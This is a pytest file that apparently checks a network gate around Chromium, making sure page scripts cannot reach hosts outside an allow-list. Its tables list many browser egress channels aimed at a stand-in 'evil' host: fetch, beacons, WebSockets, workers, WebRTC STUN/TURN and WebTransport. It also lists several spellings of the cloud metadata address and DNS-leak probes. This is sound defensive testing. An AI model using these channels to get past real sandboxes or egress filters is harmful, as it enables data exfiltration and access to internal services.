"""A real Chromium behind the gate: whatever a page tries, it gets where its run may go."""

from __future__ import annotations

import asyncio
import json

import pytest
from playwright.async_api import Error

from domain.allowed_hosts import AllowedHosts
from executor.browser.finding import find_browser, find_chromium
from executor.gate.policy import Policy
from tests.gate.sites import launched
from tests.support.waiting import eventually

ELSEWHERE = {
    "a link": "location = URL",
    "a popup": "window.open(URL)",
    "a form": "document.body.innerHTML = `<form action=${URL}>`; document.forms[0].submit()",
    "a refresh": "document.head.innerHTML = `<meta http-equiv=refresh content='0; url=${URL}'>`",
    "a frame": "document.body.innerHTML = `<iframe src=${URL}>`",
    "an object": "document.body.innerHTML = `<object data=${URL}>`",
    "an image": "new Image().src = URL",
    "a video": "document.body.innerHTML = `<video src=${URL}>`",
    "a style sheet": "document.head.innerHTML = `<link rel=stylesheet href=${URL}>`",
    "a background": "document.body.style.background = `url(${URL})`",
    "a font": "new FontFace('f', `url(${URL})`).load().catch(() => 0)",
    "a script": "document.head.append(Object.assign(document.createElement('script'), {src: URL}))",
    "a module": "import(URL).catch(() => 0)",
    "a prefetch": "document.head.innerHTML = `<link rel=prefetch href=${URL}>`",
    "a preload": "document.head.innerHTML = `<link rel=preload as=image href=${URL}>`",
    "fetch": "fetch(URL, {mode: 'no-cors'}).catch(() => 0)",
    "fetch with keepalive": "fetch(URL, {mode: 'no-cors', keepalive: true}).catch(() => 0)",
    "XMLHttpRequest": "x = new XMLHttpRequest(); x.open('GET', URL); x.send()",
    "a WebSocket": "new WebSocket(URL.replace('http', 'ws'))",
    "an EventSource": "new EventSource(URL)",
    "a beacon": "navigator.sendBeacon(URL, 'x')",
    "a ping": "document.body.innerHTML = `<a href=#here ping=${URL}>`; document.links[0].click()",
    "a worker": "new Worker(`/worker.js`)",
    "a shared worker": "new SharedWorker(`/worker.js`)",
    "a service worker": "navigator.serviceWorker.register('/worker.js')",
    "a redirect": "location = '/redirect'",
    "a redirect of a request": "new Image().src = '/redirect'",
    "a TURN server": "p = new RTCPeerConnection({iceServers: [{urls: `turn:${HOST}?transport=tcp`,"
    " username: 'u', credential: 'p'}]}); p.createDataChannel('c'); p.setLocalDescription()",
}


async def attempt(town, page, script):
    """Runs the script with a URL of the other site in it."""
    url = f"http://{town.evil_host}/goal"
    town.shop.pages["/worker.js"] = f"fetch('{url}', {{mode: 'no-cors'}})"
    town.shop.pages["/redirect"] = url
    constants = f"const URL = '{url}', HOST = '{town.evil_host}'; "
    await page.evaluate(f"() => {{ {constants} {script} }}")


@pytest.mark.parametrize("script", ELSEWHERE.values(), ids=ELSEWHERE)
def test_a_page_gets_nothing_from_a_host_that_is_not_allowed(town, script):
    async def scenario():
        async with town.visit() as (page, passage):
            await attempt(town, page, script)
            await eventually(lambda: passage.refusals, "the gate to refuse it")
            refused = {(trouble.host, trouble.port) for trouble in passage.refusals}
            assert refused == {("127.0.0.1", town.evil_port)}
        assert town.evil.visits == []

    town.run(scenario())


@pytest.mark.parametrize("script", ELSEWHERE.values(), ids=ELSEWHERE)
def test_and_gets_it_where_the_host_is_allowed(town, script):
    async def scenario():
        async with town.visit(town.evil_host) as (page, passage):
            await attempt(town, page, script)
            await eventually(lambda: town.evil.visits, "the request to arrive")
            assert passage.refusals == []

    town.run(scenario())


# -- navigations ----------------------------------------------------------------------------------


def test_a_navigation_that_is_refused_can_be_explained(town):
    async def scenario():
        async with town.visit() as (page, passage):
            with pytest.raises(Error, match="net::ERR_SOCKS_CONNECTION_FAILED"):
                await page.goto(f"http://{town.evil_host}/")
            assert passage.trouble("127.0.0.1", town.evil_port).reason == (
                f"{town.evil_host} is not among the allowed hosts (127.0.0.1:{town.shop_port})"
            )

    town.run(scenario())


def test_a_navigation_to_where_nobody_listens_can_be_explained(town):
    async def scenario():
        async with town.visit("localhost:4") as (page, passage):
            with pytest.raises(Error, match="net::ERR_SOCKS_CONNECTION_FAILED"):
                await page.goto("http://localhost:4/")
            assert passage.trouble("localhost", 4).reason == "connection refused"

    town.run(scenario())


def test_hosts_are_held_apart_by_their_names(town):
    async def scenario():
        async with town.visit(f"shop.localhost:{town.shop_port}") as (page, _):
            await page.goto(f"http://shop.localhost:{town.shop_port}/")
            with pytest.raises(Error, match="net::ERR_SOCKS_CONNECTION_FAILED"):
                await page.goto(f"http://evil.localhost:{town.evil_port}/")
        assert town.evil.visits == []

    town.run(scenario())


def test_no_run_reaches_metadata_by_a_spelling_of_its_address(town):
    async def scenario():
        async with town.visit("0.0.0.0/0", "::/0") as (page, passage):
            for host in ("169.254.169.254", "0xa9fea9fe", "[::ffff:169.254.169.254]"):
                with pytest.raises(Error, match="net::ERR_SOCKS_CONNECTION_FAILED"):
                    await page.goto(f"http://{host}/latest/meta-data")
                assert "is a link-local address" in passage.trouble(host, 80).reason

    town.run(scenario())


# -- ways round the gate --------------------------------------------------------------------------

BOTH = [find_browser, find_chromium]
"""Each has its own name for a flag, and full Chromium looks up more."""

OVER_UDP = {
    "STUN": "new Gathering(`stun:${HOST}`).over",
    "TURN": "new Gathering(`turn:${HOST}`).over",
    "WebTransport": "new WebTransport(`https://${HOST}/`).ready.catch(() => 0)",
}
GATHERING = """class Gathering extends RTCPeerConnection {
  constructor(urls) {
    super({iceServers: [{urls, username: 'u', credential: 'p'}]});
    this.over = new Promise(over => this.onicegatheringstatechange = () =>
      this.iceGatheringState === 'complete' && over());
    this.createDataChannel('c'); this.setLocalDescription() } }"""


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self):
        self.received = []

    def datagram_received(self, data, address):
        self.received.append(data)


async def send_datagrams(town, browser, script):
    """What arrived by UDP once the page was through with it, or as soon as something did."""
    loop = asyncio.get_running_loop()
    transport, server = await loop.create_datagram_endpoint(Datagrams, local_addr=("127.0.0.1", 0))
    host = f"127.0.0.1:{transport.get_extra_info('sockname')[1]}"
    page = await browser.new_page()
    await page.goto(town.shop_url)
    trying = asyncio.create_task(
        page.evaluate(f"async () => {{ {GATHERING}; const HOST = '{host}'; await {script} }}")
    )
    await eventually(lambda: trying.done() or server.received, "the page to be through with it")
    trying.cancel()
    await asyncio.gather(trying, return_exceptions=True)
    transport.close()
    return server.received


@pytest.mark.parametrize("script", OVER_UDP.values(), ids=OVER_UDP)
@pytest.mark.parametrize("find", BOTH)
def test_a_page_sends_no_datagram(town, find, script):
    async def scenario():
        with town.gate.open(Policy()):
            async with launched(*town.gate.flags(), find=find) as browser:
                assert await send_datagrams(town, browser, script) == []
        async with launched(find=find) as browser:
            assert await send_datagrams(town, browser, script) != []

    town.run(scenario())


NAMED = """<link rel=dns-prefetch href=//a.leak.example><link rel=preconnect href=//b.leak.example>
<img src=//c.leak.example><script>new WebSocket('ws://d.leak.example');
p = new RTCPeerConnection({iceServers: [{urls: ['stun:e.leak.example', 'turn:f.leak.example',
  'turn:g.leak.example?transport=tcp'], username: 'u', credential: 'p'}]});
p.createDataChannel('c'); p.setLocalDescription()</script>"""


async def looked_up(town, log, *flags, find, until):
    """What Chromium's own log has on names it looked up for the page, `until` so much happened."""
    async with launched(*flags, f"--log-net-log={log}", find=find) as browser:
        page, failed = await browser.new_page(), []
        page.on("requestfailed", lambda request: failed.append(request.url))
        await page.goto(town.shop_url, wait_until="commit")
        await eventually(lambda: until(failed), "the page to have tried")
    recorded = json.loads(log.read_text())
    kinds = {number: kind for kind, number in recorded["constants"]["logEventTypes"].items()}
    asking = ("HOST_RESOLVER_MANAGER_JOB", "HOST_RESOLVER_SYSTEM_TASK", "DNS_TRANSACTION")
    events = (e for e in recorded["events"] if kinds[e["type"]].startswith(asking))
    return json.dumps([event.get("params") for event in events])


@pytest.mark.parametrize("find", BOTH)
def test_the_browser_looks_no_name_up_itself(town, find, tmp_path):
    town.shop.pages["/"] = NAMED

    async def scenario():
        hosts = AllowedHosts.parse([f"127.0.0.1:{town.shop_port}"])
        with town.gate.open(Policy((hosts,))) as passage:

            def all_refused(_):
                hosts = {trouble.host for trouble in passage.refusals}
                return hosts >= {f"{name}.leak.example" for name in "cdg"}

            log, flags = tmp_path / "behind.json", town.gate.flags()
            assert "leak" not in await looked_up(town, log, *flags, find=find, until=all_refused)
        log = tmp_path / "without.json"
        assert "leak" in await looked_up(town, log, find=find, until=len)

    town.run(scenario())


# -- the side door --------------------------------------------------------------------------------


def test_the_side_door_leads_past_the_gate_and_has_one_name(town):
    async def scenario():
        async with launched(*town.gate.flags("secret.localhost")) as browser:
            page = await browser.new_page()
            await page.goto(f"http://secret.localhost:{town.evil_port}/")
            with pytest.raises(Error, match="net::ERR_"):
                await page.goto(f"http://other.localhost:{town.evil_port}/")
        assert town.evil.visits == ["/"]

    town.run(scenario())
